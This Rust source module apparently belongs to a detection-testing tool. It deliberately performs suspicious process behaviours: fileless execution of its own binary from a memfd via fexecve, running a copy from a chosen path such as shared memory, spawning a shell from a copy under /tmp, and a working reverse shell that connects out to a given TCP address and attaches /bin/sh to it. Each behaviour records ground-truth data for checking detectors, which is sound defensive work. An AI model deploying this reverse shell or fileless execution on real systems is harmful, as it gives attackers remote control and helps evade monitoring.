//! Running programs from where programs should not be, and shells under what should have none.

use super::observe;
use crate::Context;
use serde_json::{Value, json};
use std::ffi::CStr;
use std::fs::{self, File, OpenOptions};
use std::io;
use std::net::{SocketAddr, TcpStream};
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::fs::OpenOptionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

#[derive(clap::Args)]
pub struct ShmArgs {
    /// Where to copy this program to; made and removed.
    path: PathBuf,
}

#[derive(clap::Args)]
pub struct ShellUnderArgs {
    /// The name of the program's file.
    name: String,
    /// The directory to copy this program to.
    #[arg(long, default_value = "/tmp")]
    directory: PathBuf,
}

#[derive(clap::Args)]
pub struct ReverseShellArgs {
    /// Who tells it what to do, by TCP.
    #[arg(long)]
    to: SocketAddr,
}

/// Connects, and becomes a shell that has the connection for its standard input and output. Returns only if it fails.
pub fn reverse_shell(args: &ReverseShellArgs) -> io::Result<u8> {
    let stream = TcpStream::connect(args.to).context(|| args.to.to_string())?;
    let out = stream.try_clone()?;
    Err(Command::new("/bin/sh").stdin(OwnedFd::from(stream)).stdout(OwnedFd::from(out)).exec())
}

/// Runs this program's copy in a memfd.
pub fn memfd() -> io::Result<Value> {
    let flags = rustix::fs::MemfdFlags::CLOEXEC;
    let copy = File::from(rustix::fs::memfd_create("weir-actor", flags).context(|| "memfd_create".into())?);
    io::copy(&mut File::open("/proc/self/exe")?, &mut &copy)?;
    let mut truth = observe::file(copy.as_fd())?;
    const ARGUMENTS: [&CStr; 2] = [c"in-memory", c"noop"];
    let mut command = Command::new("/proc/self/exe");
    let descriptor = copy.as_raw_fd();
    // SAFETY: between fork and exec only `fexecve` is called (execveat), which allocates nothing when the kernel has the call; its
    // arguments are constants and end with null.
    unsafe {
        command.pre_exec(move || {
            let arguments = [ARGUMENTS[0].as_ptr(), ARGUMENTS[1].as_ptr(), std::ptr::null()];
            let environment = [std::ptr::null()];
            libc::fexecve(descriptor, arguments.as_ptr(), environment.as_ptr());
            Err(io::Error::last_os_error())
        });
    }
    let child = run(&mut command, "fexecve")?;
    truth.insert("child.vpid".into(), child.into());
    Ok(truth.into())
}

/// Copies this program, runs the copy, removes it.
pub fn shm(args: &ShmArgs) -> io::Result<Value> {
    let copy = Copy::new(&args.path)?;
    let mut truth = observe::file(File::open(&copy.0)?.as_fd())?;
    let child = run(Command::new(&copy.0).arg("noop"), "run")?;
    truth.insert("child.vpid".into(), child.into());
    Ok(truth.into())
}

/// Copies this program to `directory/name`, and has the copy start a shell.
pub fn shell_under(args: &ShellUnderArgs) -> io::Result<Value> {
    let copy = Copy::new(&args.directory.join(&args.name))?;
    let output = Command::new(&copy.0).arg("run-shell").stderr(Stdio::inherit()).output()?;
    if !output.status.success() {
        return Err(io::Error::other(format!("{} run-shell: {}", copy.0.display(), output.status)));
    }
    let mut truth: Value = serde_json::from_slice(&output.stdout)?;
    truth["weir.process.parent.executable.path"] = copy.0.to_string_lossy().into();
    Ok(truth)
}

/// Starts `/bin/sh -c true`.
pub fn run_shell() -> io::Result<Value> {
    let child = run(Command::new("/bin/sh").args(["-c", "true"]), "/bin/sh -c true")?;
    Ok(json!({ "child.vpid": child, "process.vpid": std::process::id(), "process.command_line": "/bin/sh -c true" }))
}

/// A copy of this program, removed at the end.
struct Copy(PathBuf);

impl Copy {
    fn new(path: &Path) -> io::Result<Copy> {
        let file = OpenOptions::new().write(true).create_new(true).mode(0o755).open(path);
        let mut file = file.context(|| format!("copying this program to {}", path.display()))?;
        let copy = Copy(path.to_owned());
        io::copy(&mut File::open("/proc/self/exe")?, &mut file)?;
        Ok(copy)
    }
}

impl Drop for Copy {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.0);
    }
}

/// Runs it to its end; its pid here.
fn run(command: &mut Command, what: &str) -> io::Result<u32> {
    let mut child = command.stdin(Stdio::null()).spawn().context(|| what.to_owned())?;
    let (pid, status) = (child.id(), child.wait()?);
    if status.success() { Ok(pid) } else { Err(io::Error::other(format!("{what}: {status}"))) }
}
